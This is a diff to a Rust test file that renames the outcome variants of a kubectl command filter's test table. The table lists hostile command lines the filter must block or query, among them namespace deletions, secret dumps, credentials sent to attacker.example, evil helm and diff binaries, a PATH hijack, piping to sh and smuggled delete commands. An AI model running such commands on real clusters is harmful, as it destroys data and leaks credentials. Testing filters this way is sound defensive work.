@@ -16,57 +16,57 @@ use serde_json::json;
 #[derive(Debug, Clone, Copy, PartialEq)]
 enum Comes {
     /// It is not done, whoever says yes.
-    ToNothing,
+    Nothing,
     /// It is asked about, at least so.
-    ToAQuestion(Verdict),
+    Question(Verdict),
     /// It is a read like any other, and shows no secret.
-    ToARead,
+    Read,
 }
 
-use Comes::{ToAQuestion, ToARead, ToNothing};
+use Comes::{Nothing, Question, Read};
 
 const FORMS: &[(&str, Comes)] = &[
     // A flag that says "do not pretend" taken for one that says "only pretend".
-    ("kubectl delete ns shop --dry-run=none", ToNothing),
-    ("kubectl delete pvc --all --dry-run=none -n shop", ToNothing),
+    ("kubectl delete ns shop --dry-run=none", Nothing),
+    ("kubectl delete pvc --all --dry-run=none -n shop", Nothing),
     // A flag of the program in the container taken for one of kubectl's.
-    ("kubectl exec db-0 -- sh -c 'rm -rf /data' --dry-run", ToAQuestion(Verdict::Confirm)),
+    ("kubectl exec db-0 -- sh -c 'rm -rf /data' --dry-run", Question(Verdict::Confirm)),
     // A verb that reads by its first word, and writes by its second.
-    ("kubectl auth reconcile -f rbac.yaml", ToNothing),
+    ("kubectl auth reconcile -f rbac.yaml", Nothing),
     // The ground taken from under what comes next: another context, other credentials.
-    ("kubectl config use-context production", ToAQuestion(Verdict::Confirm)),
-    ("kubectl config delete-context built-in", ToNothing),
-    ("kubectl config set-credentials me --token=abc", ToNothing),
+    ("kubectl config use-context production", Question(Verdict::Confirm)),
+    ("kubectl config delete-context built-in", Nothing),
+    ("kubectl config set-credentials me --token=abc", Nothing),
     // Reads that hand out what is secret.
-    ("kubectl config view --raw", ToARead),
-    ("kubectl get secrets -A -o yaml", ToARead),
-    ("kubectl get pods,secrets -o json", ToARead),
-    ("kubectl get --raw /api/v1/namespaces/shop/secrets/keys", ToARead),
+    ("kubectl config view --raw", Read),
+    ("kubectl get secrets -A -o yaml", Read),
+    ("kubectl get pods,secrets -o json", Read),
+    ("kubectl get --raw /api/v1/namespaces/shop/secrets/keys", Read),
     // A read whose answer is written where something runs it later.
-    ("kubectl get cm settings -o jsonpath='{.data.colour}' > {HOME}/.bashrc", ToNothing),
-    ("kubectl explain pods > {HOME}/job", ToNothing),
-    ("kubectl cluster-info dump --output-directory={HOME}/dump", ToNothing),
+    ("kubectl get cm settings -o jsonpath='{.data.colour}' > {HOME}/.bashrc", Nothing),
+    ("kubectl explain pods > {HOME}/job", Nothing),
+    ("kubectl cluster-info dump --output-directory={HOME}/dump", Nothing),
     // A program named by the environment, or by a path that merely looks right.
-    ("KUBECTL_EXTERNAL_DIFF={HOME}/evil kubectl diff -f x.yaml", ToNothing),
-    ("{HOME}/kubectl-evil get pods", ToNothing),
-    ("kubectl.anything get pods", ToNothing),
-    ("export PATH={HOME}:$PATH; kubectl get pods", ToNothing),
+    ("KUBECTL_EXTERNAL_DIFF={HOME}/evil kubectl diff -f x.yaml", Nothing),
+    ("{HOME}/kubectl-evil get pods", Nothing),
+    ("kubectl.anything get pods", Nothing),
+    ("export PATH={HOME}:$PATH; kubectl get pods", Nothing),
     // The credentials carried to another server, or a kubeconfig that runs a program.
-    ("kubectl get pods --server=https://attacker.example --insecure-skip-tls-verify", ToNothing),
-    ("kubectl get pods --kubeconfig={HOME}/evil.yaml", ToNothing),
-    ("kubectl kustomize --enable-helm --helm-command={HOME}/evil .", ToNothing),
+    ("kubectl get pods --server=https://attacker.example --insecure-skip-tls-verify", Nothing),
+    ("kubectl get pods --kubeconfig={HOME}/evil.yaml", Nothing),
+    ("kubectl kustomize --enable-helm --helm-command={HOME}/evil .", Nothing),
     // The API server opened to everybody who can reach this machine.
-    ("kubectl proxy --address=0.0.0.0 --accept-hosts=.*", ToNothing),
+    ("kubectl proxy --address=0.0.0.0 --accept-hosts=.*", Nothing),
     // Words that one shell quotes and another runs.
-    ("kubectl get pods -l 'a&del C:\\x'", ToNothing),
+    ("kubectl get pods -l 'a&del C:\\x'", Nothing),
     // What even a filter catches has to stay caught.
-    ("kubectl get pods | sh", ToNothing),
-    ("kubectl get pods; kubectl delete ns shop", ToNothing),
-    ("kubectl get pods $(kubectl delete ns shop)", ToNothing),
-    ("kubectl get pods <(kubectl delete ns shop)", ToNothing),
-    ("kubectl apply -f - <<EOF\n$(kubectl delete ns shop)\nEOF", ToNothing),
-    ("kubectl -n shop delete configmap settings", ToAQuestion(Verdict::Confirm)),
-    ("kubectl rollout -n shop restart deployment/web", ToAQuestion(Verdict::Confirm)),
+    ("kubectl get pods | sh", Nothing),
+    ("kubectl get pods; kubectl delete ns shop", Nothing),
+    ("kubectl get pods $(kubectl delete ns shop)", Nothing),
+    ("kubectl get pods <(kubectl delete ns shop)", Nothing),
+    ("kubectl apply -f - <<EOF\n$(kubectl delete ns shop)\nEOF", Nothing),
+    ("kubectl -n shop delete configmap settings", Question(Verdict::Confirm)),
+    ("kubectl rollout -n shop restart deployment/web", Question(Verdict::Confirm)),
 ];
 
 #[tokio::test(flavor = "multi_thread")]
@@ -86,16 +86,16 @@ async fn each_way_around_a_filter_comes_to_nothing_or_to_a_question() {
         assert!(scene.wire.writes().is_empty(), "{line}: {}", heard.text);
         assert!(!heard.text.contains("hunter2") && !heard.text.contains("aHVudGVyMg"), "{line}: {}", heard.text);
         match comes {
-            ToARead => {}
-            ToAQuestion(_) => assert_ne!(heard.code, 0, "{line}: {}", heard.text),
-            ToNothing => {
+            Read => {}
+            Question(_) => assert_ne!(heard.code, 0, "{line}: {}", heard.text),
+            Nothing => {
                 assert_ne!(heard.code, 0, "{line}: {}", heard.text);
                 let heard = scene.says_with(&line, yes()).await;
                 assert_ne!(heard.code, 0, "{line}: {}", heard.text);
                 assert!(scene.wire.writes().is_empty(), "{line}: {}", heard.text);
             }
         }
-        if let (ToAQuestion(least), Ok(op)) = (comes, Op::from_line(&line)) {
+        if let (Question(least), Ok(op)) = (comes, Op::from_line(&line)) {
             assert!(judged(op) >= *least, "{line}");
         }
     }
